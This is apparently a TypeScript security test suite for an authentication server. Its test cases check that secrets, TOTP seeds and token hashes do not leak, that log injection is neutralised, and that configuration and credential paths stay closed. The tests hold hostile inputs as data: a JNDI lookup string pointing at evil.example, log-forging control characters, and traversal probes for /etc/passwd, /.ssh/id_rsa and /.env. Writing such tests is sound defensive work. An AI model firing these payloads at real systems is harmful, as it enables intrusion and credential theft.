import assert from 'node:assert/strict'
import inspector from 'node:inspector'
import { setTimeout as pause } from 'node:timers/promises'
import { protocols } from '../../../src/protocols/index.ts'
import { registeredRoutes } from '../../../src/server/registry.ts'
import { attack } from '../../kit/attack.ts'
import { codeAt, rowsOf, signIn } from '../../kit/engine.ts'
import { type Client, found, halfwayAt } from '../../kit/server.ts'

const metricsToken = 'a token for the monitoring system'

attack(
  'A-090 api-secret-leak: nobody reads a seed, a code, a hash or a token anywhere',
  async (scene) => {
    const { server, alice, admin, engine } = scene
    const key = await server.application(['administration'])
    await key.post('/accounts', { name: 'carol', password: 'a password of carol 7', invite: true })
    await key.patch(`/accounts/${alice.account.id}`, { email: 'alice@example.com', reason: 'told us' })
    const application = await key.post('/applications', { name: 'Shop' })
    const issued = await key.post(`/applications/${application.body.id}/keys`, { scopes: ['verify'] })
    const alices = await server.signedIn((await signIn(scene, alice)).token)
    const admins = await server.signedIn((await signIn(scene, admin)).token)
    const begun = await alices.post('/authenticators', { factor: 'totp' })
    await halfwayAt(alices, alice)

    const secrets = new Set(server.secrets)
    assert.ok(found(secrets, begun.text).length > 0, 'the canaries are known')
    const hashes = [
      ...(await rowsOf(engine, 'sessions')).map(({ token_hash }) => String(token_hash)),
      ...(await rowsOf(engine, 'api_keys')).map(({ token_hash, key_hash }) => String(token_hash ?? key_hash)),
      ...(await rowsOf(engine, 'invitations')).map(({ token_hash }) => String(token_hash)),
    ].filter((hash) => hash.length > 20)
    assert.ok(hashes.length > 3)
    for (const hash of hashes) secrets.add(hash)
    for (const csrf of [alices, admins]) secrets.delete(csrf.headers.get('x-sallyport-csrf') ?? '')

    const ids = [alice.account.id, admin.account.id, application.body.id, issued.body.id, begun.body.id]
    const paths = registeredRoutes(protocols)
      .filter(({ method }) => method === 'GET')
      .flatMap(({ path }) => (path.includes(':id') ? ids.map((id) => path.replace(':id', id)) : [path]))
      .map((path) => path.replace(':attempt', 'current').replace(/:\w+/g, begun.body.id).replace('*', 'x'))
    const walkers: readonly [string, Client][] = [
      ['alice', alices],
      ['admin', admins],
      ['key', key],
      ['anyone', server.stranger()],
    ]
    let read = 0
    for (const path of paths) {
      for (const [who, client] of walkers) {
        const answer = await client.send({ method: 'GET', path })
        if (answer.status === 200) read++
        assert.deepEqual(
          found(secrets, answer.text + JSON.stringify(answer.headers)),
          [],
          `${who} reads ${path}`,
        )
        assert.doesNotMatch(
          answer.text,
          /otpauth:|\$argon2|"(secret|seed|hash|tokenHash|password|pending|data)":"/,
          `${who} reads ${path}`,
        )
      }
    }
    assert.ok(read > 30, `only ${read} answers were looked at`)
    const metrics = await server
      .stranger()
      .send({ method: 'GET', path: '/metrics', headers: { authorization: `Bearer ${metricsToken}` } })
    assert.equal(metrics.status, 200)
    assert.deepEqual(found(secrets, metrics.text), [])
    assert.doesNotMatch(metrics.text, /alice|carol/, 'and no names of people')
  },
  { server: { metricsToken }, on: 'each' },
)

attack(
  'A-091 seed-show-twice: a seed and recovery codes are shown at the one moment they are made',
  async (scene) => {
    const { server, alice, admin } = scene
    const client = await server.signedIn((await signIn(scene, alice)).token)
    const begun = await client.post('/authenticators', { factor: 'totp' })
    const seed = String(begun.body.show.secret)
    const id = begun.body.id
    const code = () => codeAt(begun.body.show, scene.clock.now())
    assert.equal((await client.get(`/authenticators/${id}`)).status, 404)
    assert.ok(!(await client.get('/authenticators')).text.includes(id), 'an offer is in no list')
    assert.equal(
      (await client.post(`/authenticators/${id}/confirm`, { answer: { code: code() } })).status,
      200,
    )
    scene.clock.advance(30_000)
    const admins = await server.signedIn((await signIn(scene, admin)).token)
    const key = await server.application(['administration'])
    const readers = [client, admins, key]
    for (const reader of readers) {
      for (const path of [
        `/authenticators/${id}`,
        `/authenticators/${id}/qr`,
        `/authenticators/${id}/secret`,
        '/authenticators',
        `/accounts/${alice.account.id}`,
        `/authenticators/${id}/confirm`,
      ]) {
        const answer = await reader.get(path)
        assert.ok(!answer.text.replaceAll(' ', '').includes(seed.replaceAll(' ', '')), path)
        assert.ok([200, 401, 403, 404].includes(answer.status))
      }
    }
    assert.equal(
      (await client.post(`/authenticators/${id}/confirm`, { answer: { code: code() } })).status,
      404,
    )
    const anew = await client.post('/authenticators', { factor: 'totp' })
    assert.notEqual(anew.body.show.secret, seed, 'a new offer has a new seed')
    const again = await client.post('/authenticators', { factor: 'totp' })
    assert.notEqual(again.body.show.secret, anew.body.show.secret)
    const stale = await client.post(`/authenticators/${anew.body.id}/confirm`, {
      answer: { code: codeAt(anew.body.show, scene.clock.now()) },
    })
    assert.equal(stale.status, 404, 'the offer before it is void')
  },
)

attack(
  'A-094 log-injection: what callers write stays one line of JSON, and no control character gets through',
  async (scene) => {
    const { server, engine, points, log } = scene
    const nasty = [
      '\u001b[2J\u001b[31mroot logged in',
      'x","level":10,"msg":"forged',
      `$\{jndi:ldap://evil.example/a}`,
      'line\u2028break',
      'a'.repeat(500),
      '%n%s%x',
      '\u202egnp.exe',
    ]
    const client = await server.browser()
    for (const text of nasty) {
      const headers = { 'user-agent': text.replace(/[^\x20-\x7e]/g, '?'), 'x-request-id': 'forged' }
      await client.post('/attempts', { account: text }, headers)
      await client.post(
        '/attempts/current/proofs',
        { proofs: [{ factor: text.slice(0, 60), proof: { code: text } }] },
        headers,
      )
      points.before = () => {
        throw new Error(`could not write ${text}\r\nFAKE LINE`)
      }
      const failed = await client.post('/attempts', { account: text }, headers)
      points.before = undefined
      assert.ok(failed.status >= 500)
      assert.doesNotMatch(failed.text, /could not write|FAKE/, 'and the caller is told nothing of it')
    }
    const broken = await server
      .stranger()
      .get('/session', { 'user-agent': 'x'.repeat(1_000_000) })
      .catch(() => undefined)
    assert.ok(broken === undefined || broken.status === 431)
    await pause(10)
    assert.ok(log.length >= nasty.length, 'the failures were logged')
    for (const line of log) {
      assert.equal(line.indexOf('\n'), line.length - 1, 'one line')
      assert.doesNotMatch(line.trimEnd(), /[\p{Cc}\u2028\u2029]/u)
      assert.ok(line.length < 20_000)
      assert.equal(JSON.parse(line).level, 50)
    }
    const rows = [...(await rowsOf(engine, 'audit_events')), ...(await rowsOf(engine, 'audit_refusals'))]
    const told = JSON.stringify(rows, (_, value: unknown) =>
      typeof value === 'bigint' ? String(value) : value,
    )
    assert.doesNotMatch(told, /\\u001b|jndi|forged/, 'typed names are no part of the audit trail')
  },
)

attack('A-099 config-secrets: nothing of the house lies open', async (scene) => {
  const { server } = scene
  const client = server.stranger()
  const closed = [
    '/.env',
    '/.git/config',
    '/.git/HEAD',
    '/.ssh/id_rsa',
    '/.well-known/security.txt.bak',
    '/package.json',
    '/package-lock.json',
    '/sallyport.yaml',
    '/data/sallyport.db',
    '/data/key',
    '/src/engine.ts',
    '/node_modules/fastify/package.json',
    '/debug',
    '/debug/pprof/heap',
    '/heapdump',
    '/actuator/env',
    '/server-status',
    '/metrics',
    '/json/list',
    '/__vite_ping',
    '/@fs/etc/passwd',
    '/web/dist/index.html',
    '/assets/',
    '/assets/.env',
    '/assets/../../../package.json',
    '/assets/..%2f..%2f..%2fpackage.json',
    '/assets/%2e%2e/%2e%2e/package.json',
    '/assets/..\\..\\package.json',
    '/assets/%00',
    '/assets//etc/passwd',
    '/index.html.map',
  ]
  for (const path of closed) {
    const answer = await client.send({ method: 'GET', path })
    assert.ok([400, 403, 404].includes(answer.status), `${path}: ${answer.status}`)
    assert.doesNotMatch(answer.text, /root:|"dependencies"|sallyport-key-/, path)
  }
  const page = await client.send({ method: 'GET', path: '/' })
  const scripts = [...page.text.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((match) => match[1] ?? '')
  for (const path of scripts) {
    const script = await client.send({ method: 'GET', path })
    assert.equal(script.status, 200)
    assert.doesNotMatch(script.text, /sourceMappingURL/, path)
    assert.equal((await client.send({ method: 'GET', path: `${path}.map` })).status, 404)
  }
  assert.equal(inspector.url(), undefined, 'no debugger listens')
})
